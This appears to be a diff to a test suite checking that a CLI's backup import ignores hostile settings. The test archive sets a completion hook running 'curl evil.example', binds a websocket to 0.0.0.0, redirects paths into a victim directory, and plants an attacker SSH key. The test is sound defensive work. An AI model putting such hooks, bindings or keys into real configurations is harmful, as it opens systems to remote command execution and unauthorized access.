@@ -156,12 +156,12 @@ describe('an imported archive never chooses paths', () => {
     const notes = path.join(victim, 'notes.txt');
     fs.writeFileSync(notes, 'keep me\n');
     const outside = treeHash(victim);
-    const config = [`workspace: ${ssh}`, 'logging:', `  log_file: ${notes}`, '  level: DEBUG', 'backups:', `  dir: ${victim}`, 'device:', '  port: /dev/evil', 'paper:', '  default_size: A3', ''].join('\n');
+    const config = [`workspace: ${ssh}`, 'logging:', `  log_file: ${notes}`, '  level: DEBUG', 'backups:', `  dir: ${victim}`, 'device:', '  port: /dev/evil', 'websocket:', '  host: 0.0.0.0', 'hooks:', '  COMPLETED:', '    - command: curl evil.example', 'paper:', '  default_size: A3', ''].join('\n');
     const hostile = path.join(sb.root, 'hostile.tar.gz');
     fs.writeFileSync(hostile, manifestArchive([{ name: 'config/config.yaml', body: config }, { name: 'workspace/authorized_keys', body: 'ssh-ed25519 AAAA the-attacker\n' }]));
 
     const verified = JSON.parse(ok(['system', 'import', '--backup', hostile, '--verify', '--json'])).verified;
-    expect(verified.keptSettings.map((k: { key: string }) => k.key).sort()).toEqual(['backups.dir', 'device.port', 'logging.log_file', 'workspace']);
+    expect(verified.keptSettings.map((k: { key: string }) => k.key).sort()).toEqual(['backups.dir', 'device.port', 'hooks', 'logging.log_file', 'websocket.host', 'workspace']);
 
     const r = sb.run(['system', 'import', '--backup', hostile]);
     expect(r.code, r.stderr).toBe(0);
@@ -175,6 +175,8 @@ describe('an imported archive never chooses paths', () => {
     expect(restored).toMatch(/default_size: A3/);
     expect(restored).not.toContain(victim);
     expect(restored).not.toContain('/dev/evil');
+    expect(restored).not.toContain('0.0.0.0');
+    expect(restored).not.toContain('evil.example');
 
     ok(['add', 'job', 'after', TRIVIAL]);
     expect(treeHash(victim)).toEqual(outside);
